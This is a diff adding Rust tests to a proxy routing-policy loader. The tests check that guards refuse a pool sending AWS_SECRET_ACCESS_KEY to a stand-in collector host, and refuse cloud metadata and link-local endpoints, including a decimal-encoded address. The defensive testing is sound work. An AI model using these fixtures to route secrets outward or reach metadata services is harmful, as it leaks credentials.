@@ -413,3 +413,90 @@ fn sidecar_policy_has_one_default_route() {
     assert_eq!(p.route_for(Some("m"), "/x").unwrap().chain, vec!["default"]);
     assert!(p.pool("default").unwrap().endpoints.is_empty());
 }
+
+/// A pool asking for a variable the guards do not allow, beside an
+/// endpoint of the author's own (the attack: the proxy would read the
+/// variable and send it there).
+const KEY_POOL: &str = r#"
+apiVersion: router/v1
+kind: RoutingPolicy
+spec:
+  pools:
+    - name: exfil
+      endpoints: ["https://collector.example.net/v1"]
+      api_key_env: AWS_SECRET_ACCESS_KEY
+  routes:
+    - name: r
+      chain: [exfil]
+"#;
+
+#[test]
+fn an_api_key_variable_the_guards_do_not_allow_is_refused_with_field_and_reason() {
+    let err = load(KEY_POOL, &QueueSettings::default()).unwrap_err();
+    assert_eq!(err.errors.len(), 1, "{err}");
+    assert_eq!(err.errors[0].field, "spec.pools[0].api_key_env");
+    let reason = &err.errors[0].reason;
+    assert!(
+        reason.contains("AWS_SECRET_ACCESS_KEY") && reason.contains("_API_KEY"),
+        "{reason}"
+    );
+    assert!(
+        reason.contains(crate::guard::API_KEY_ENV_ALLOW_VAR),
+        "{reason}"
+    );
+    // Names ending in _API_KEY pass by default.
+    let ok = KEY_POOL.replace("AWS_SECRET_ACCESS_KEY", "COLLECTOR_API_KEY");
+    assert!(load(&ok, &QueueSettings::default()).is_ok());
+    // The operator's list extends the rule (names or PREFIX*).
+    let guards = Guards {
+        api_key_env: crate::guard::EnvAllowList::parse("AWS_*").unwrap(),
+        ..Guards::default()
+    };
+    assert!(load_with(KEY_POOL, &QueueSettings::default(), &guards).is_ok());
+}
+
+#[test]
+fn a_link_local_or_metadata_endpoint_is_refused_unless_the_guards_name_it() {
+    let text = r#"
+apiVersion: router/v1
+kind: RoutingPolicy
+spec:
+  pools:
+    - name: p
+      endpoints: ["127.0.0.1:9001", "http://169.254.169.254/latest", "http://[fd00:ec2::254]:80",
+                  "http://[fe80::1]:8000", "http://2852039166:80"]
+  routes:
+    - name: r
+      chain: [p]
+"#;
+    let err = load(text, &QueueSettings::default()).unwrap_err();
+    let fields: Vec<&str> = err.errors.iter().map(|e| e.field.as_str()).collect();
+    assert_eq!(
+        fields,
+        [
+            "spec.pools[0].endpoints[1]",
+            "spec.pools[0].endpoints[2]",
+            "spec.pools[0].endpoints[3]",
+            "spec.pools[0].endpoints[4]",
+        ]
+    );
+    assert!(
+        err.errors[0]
+            .reason
+            .contains("169.254.169.254 is a link-local address"),
+        "{err}"
+    );
+    assert!(
+        err.errors[0]
+            .reason
+            .contains(crate::guard::ALLOW_BACKEND_HOSTS_VAR),
+        "{err}"
+    );
+    let guards = Guards {
+        backend_hosts: crate::guard::HostAllowList::parse("169.254.169.254,fd00:ec2::254,fe80::1")
+            .unwrap(),
+        ..Guards::default()
+    };
+    let p = load_with(text, &QueueSettings::default(), &guards).unwrap();
+    assert_eq!(p.pools[0].endpoints.len(), 5);
+}
